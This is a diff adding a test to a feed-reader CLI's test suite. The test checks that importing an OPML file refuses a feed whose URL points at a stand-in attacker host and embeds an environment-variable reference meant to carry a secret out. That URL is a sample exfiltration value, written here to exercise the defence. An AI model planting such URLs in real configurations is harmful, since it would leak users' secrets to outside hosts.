@@ -127,4 +127,23 @@ lists:
     expect(config).toContain("name: New & Shiny");
     expect((await cli(["feeds"])).stdout).toMatch(/New & Shiny\s+never fetched/);
   });
+
+  it("refuses imported feeds that would read the environment, and adds the others", async () => {
+    writeFileSync(
+      path.join(dir, "blogroll.opml"),
+      `<opml version="2.0"><body>
+<outline text="Leaky" xmlUrl="https://attacker.example/feed.xml?k=\${GAZETTE_SECRET:-}"/>
+<outline text="Plain" xmlUrl="https://plain.example/feed"/>
+</body></opml>`,
+    );
+    const result = await cli(["feeds", "import", "blogroll.opml"]);
+    expect(result.code).toBe(0);
+    expect(result.stdout).toMatch(
+      /! https:\/\/attacker\.example\/feed\.xml\?k=\$\{GAZETTE_SECRET:-\}: refused: its url holds "\$\{"/,
+    );
+    expect(result.stdout).toMatch(/1 feeds added, 1 refused/);
+    const config = readFileSync(path.join(dir, "gazette.yaml"), "utf8");
+    expect(config).toContain("url: https://plain.example/feed");
+    expect(config).not.toContain("attacker.example");
+  });
 });
